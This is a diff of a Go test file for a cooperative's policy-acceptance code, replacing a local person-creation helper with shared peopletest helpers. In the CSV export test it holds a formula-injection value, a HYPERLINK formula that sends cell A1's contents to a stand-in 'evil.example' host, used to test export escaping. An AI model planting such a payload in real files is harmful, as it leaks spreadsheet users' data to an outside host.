@@ -15,6 +15,8 @@ import (
 	"github.com/jackc/pgx/v5/pgxpool"
 
 	"github.com/coopgate/coopgate/internal/database"
+	"github.com/coopgate/coopgate/internal/people"
+	"github.com/coopgate/coopgate/internal/people/peopletest"
 	"github.com/coopgate/coopgate/internal/pgtest"
 )
 
@@ -37,19 +39,6 @@ func newPolicy(t *testing.T, id, version, effective string, required bool, body 
 		t.Fatalf("parse: %v", err)
 	}
 	return p
-}
-
-func newPerson(t *testing.T, db *pgxpool.Pool, email, status string) string {
-	t.Helper()
-	var id string
-	err := db.QueryRow(context.Background(), `
-		INSERT INTO people (email, name, username, password_hash, status)
-		VALUES ($1, $2, $3, 'x', $4) RETURNING id::text`,
-		email, "Name of "+email, strings.Split(email, "@")[0], status).Scan(&id)
-	if err != nil {
-		t.Fatalf("inserting person: %v", err)
-	}
-	return id
 }
 
 func mustSync(t *testing.T, db *pgxpool.Pool, ps ...Policy) {
@@ -192,7 +181,7 @@ func TestAcceptWritesOneRowPerPolicy(t *testing.T) {
 	a := newPolicy(t, "a", "1", longAgo, true, "A.\n")
 	b := newPolicy(t, "b", "1", longAgo, true, "B.\n")
 	mustSync(t, db, a, b)
-	person := newPerson(t, db, "ann@example.coop", "admitted")
+	person := peopletest.Admitted(t, db, "ann@example.coop").ID
 	rows := func() int {
 		return count(t, db, `SELECT count(*) FROM policy_acceptances WHERE person_id = $1`, person)
 	}
@@ -225,7 +214,7 @@ func TestAcceptStoresAnyUserAgent(t *testing.T) {
 	db := pgtest.New(t)
 	a := newPolicy(t, "a", "1", longAgo, true, "A.\n")
 	mustSync(t, db, a)
-	person := newPerson(t, db, "ann@example.coop", "admitted")
+	person := peopletest.Admitted(t, db, "ann@example.coop").ID
 	ua := "Bad\x00Agent \xff" + strings.Repeat("é", 1000)
 	if err := accept(db, person, ua, a.Ref()); err != nil {
 		t.Fatalf("Accept: %v", err)
@@ -245,7 +234,7 @@ func TestPendingFollowsNewVersions(t *testing.T) {
 	a1 := newPolicy(t, "a", "1", longAgo, true, "A.\n")
 	optional := newPolicy(t, "optional", "1", longAgo, false, "Optional.\n")
 	mustSync(t, db, a1, optional)
-	person := newPerson(t, db, "ann@example.coop", "admitted")
+	person := peopletest.Admitted(t, db, "ann@example.coop").ID
 	pending := func() []string {
 		t.Helper()
 		ps, err := Pending(ctx, db, person)
@@ -284,8 +273,8 @@ func TestAcceptedVersions(t *testing.T) {
 	a2 := newPolicy(t, "a", "2", lastYr, true, "A two.\n")
 	b1 := newPolicy(t, "b", "1", longAgo, false, "B.\n")
 	mustSync(t, db, a1, a2, b1)
-	ann := newPerson(t, db, "ann@example.coop", "admitted")
-	bob := newPerson(t, db, "bob@example.coop", "admitted")
+	ann := peopletest.Admitted(t, db, "ann@example.coop").ID
+	bob := peopletest.Admitted(t, db, "bob@example.coop").ID
 
 	mustAccept(t, db, ann, a1.Ref(), b1.Ref())
 	mustAccept(t, db, ann, a2.Ref())
@@ -315,11 +304,11 @@ func TestNotAccepted(t *testing.T) {
 	db := pgtest.New(t)
 	a1 := newPolicy(t, "a", "1", longAgo, true, "A.\n")
 	mustSync(t, db, a1)
-	ann := newPerson(t, db, "ann@example.coop", "admitted")
-	newPerson(t, db, "bob@example.coop", "admitted")
-	newPerson(t, db, "cat@example.coop", "awaiting_approval")
-	newPerson(t, db, "dan@example.coop", "ceased")
-	newPerson(t, db, "eve@example.coop", "rejected")
+	ann := peopletest.Admitted(t, db, "ann@example.coop").ID
+	peopletest.Admitted(t, db, "bob@example.coop")
+	peopletest.Create(t, db, people.New{Email: "cat@example.coop", Status: people.AwaitingApproval})
+	peopletest.Create(t, db, people.New{Email: "dan@example.coop", Status: people.Ceased})
+	peopletest.Create(t, db, people.New{Email: "eve@example.coop", Status: people.Rejected})
 	mustAccept(t, db, ann, a1.Ref())
 	emails := func() []string {
 		t.Helper()
@@ -349,8 +338,8 @@ func TestExportCSV(t *testing.T) {
 	db := pgtest.New(t)
 	a := newPolicy(t, "a", "1", longAgo, true, "A.\n")
 	mustSync(t, db, a)
-	ann := newPerson(t, db, "ann@example.coop", "admitted")
-	bob := newPerson(t, db, "bob@example.coop", "admitted")
+	ann := peopletest.Admitted(t, db, "ann@example.coop").ID
+	bob := peopletest.Admitted(t, db, "bob@example.coop").ID
 	mustAccept(t, db, ann, a.Ref())
 	evil := `=HYPERLINK("https://evil.example/?"&A1, "click")`
 	if err := accept(db, bob, evil, a.Ref()); err != nil {
